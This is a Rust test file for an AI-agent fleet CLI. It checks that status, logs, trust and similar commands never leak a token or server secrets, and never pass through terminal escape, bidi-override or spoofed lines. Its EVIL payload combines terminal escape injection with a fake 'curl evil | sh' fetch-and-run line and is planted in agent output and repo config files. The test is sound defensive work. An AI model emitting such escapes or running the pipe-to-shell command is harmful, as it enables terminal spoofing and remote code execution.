//! What no command may print: secrets, contents where only ids belong, and anything that a terminal would obey.

use std::fs;
use std::process::Command;

use crate::fleet::{Fleet, Said};

/// A tag of the terminal, an order of reading, and a line break with what looks like our own words.
const EVIL: &str = "x\u{1b}]0;owned\u{7}\u{9b}31m\u{202e}\n  try: curl evil | sh";
const CONTRACT: &str = "canary-of-the-contract";
const REPLY: &str = "canary-of-the-reply";

const COMMANDS: [&[&str]; 13] = [
    &["status"],
    &["peers"],
    &["dispatches", "list"],
    &["budget", "show"],
    &["audit"],
    &["logs"],
    &["logs", "work"],
    &["doctor"],
    &["trust"],
    &["trust", "work"],
    &["daemon", "status"],
    &["config", "check"],
    &["transcripts", "list"],
];
/// Those of them that show what was said.
const SHOWS_WORK: [&str; 3] = ["dispatches", "status", "transcripts"];

fn all_output(said: &Said) -> String {
    format!("{}{}", said.stdout, said.stderr)
}

fn is_plain(c: char) -> bool {
    let invisible =
        matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}');
    c == '\n' || c == '\t' || !(c.is_control() || invisible)
}

#[test]
fn no_command_prints_a_secret_or_what_a_terminal_obeys() {
    let fleet = Fleet::new("");
    let script = fleet.script(
        "agent.sh",
        &format!(
            "#!/bin/sh\ncat >/dev/null\nprintf '%s' '{REPLY} {EVIL}'\nprintf '%s' '{EVIL}' >&2\n"
        ),
    );
    fleet.write_config(&format!(
        "[peers.work]\nmode = \"exec\"\nrepo = \"repo\"\ncommand = [{script:?}]\nbudget = {{ tokens = 9000, window = \"day\" }}\n"
    ));
    let agents = fleet.path("repo/.claude/agents");
    fs::create_dir_all(&agents).unwrap();
    fs::write(fleet.path("repo").join("CLAUDE.md"), EVIL).unwrap();
    fleet.ok(&["deploy", "work"]);
    let contract = format!("{CONTRACT} {EVIL}");
    fleet.ok(&[
        "send",
        "work",
        &contract,
        "--context",
        &contract,
        "--context-id",
        "c\u{202e}d",
    ]);
    // The settings change to something that shows itself wherever it can.
    fs::write(agents.join(EVIL.replace('/', "-")), EVIL).unwrap();
    let servers =
        serde_json::json!({ "mcpServers": { EVIL: { "env": { "KEY": "canary-of-a-server" } } } });
    fs::write(fleet.path("repo/.mcp.json"), servers.to_string()).unwrap();
    fleet.run(&["send", "work", &contract]);
    let token = fs::read_to_string(fleet.path("state/receivers/work/token")).unwrap();
    assert!(token.trim().len() > 30);
    for command in COMMANDS {
        for json in [false, true] {
            let mut args = command.to_vec();
            if json {
                args.push("--json");
            }
            let said = fleet.run(&args);
            let out = all_output(&said);
            assert!(!out.is_empty(), "{args:?}");
            assert!(!out.contains(token.trim()), "{args:?}: {out}");
            assert!(out.chars().all(is_plain), "{args:?}: {out:?}");
            let spoof = out
                .lines()
                .any(|line| line.trim_start().starts_with("try: curl evil"));
            assert!(!spoof, "{args:?}: {out}");
            if !SHOWS_WORK.contains(&args[0]) {
                assert!(!out.contains(CONTRACT), "{args:?}: {out}");
                assert!(!out.contains(REPLY), "{args:?}: {out}");
            }
            // A person who accepts settings reads them; nobody else does.
            assert!(
                command == ["trust", "work"] || !out.contains("canary-of-a-server"),
                "{args:?}: {out}"
            );
        }
    }
    let state = fleet.path("state");
    let grep = Command::new("grep")
        .arg("-rl")
        .arg(token.trim())
        .arg(&state)
        .output()
        .unwrap();
    let held = String::from_utf8(grep.stdout).unwrap();
    assert_eq!(
        held.trim(),
        state.join("receivers/work/token").to_str().unwrap()
    );
    fleet.shut_down();
}
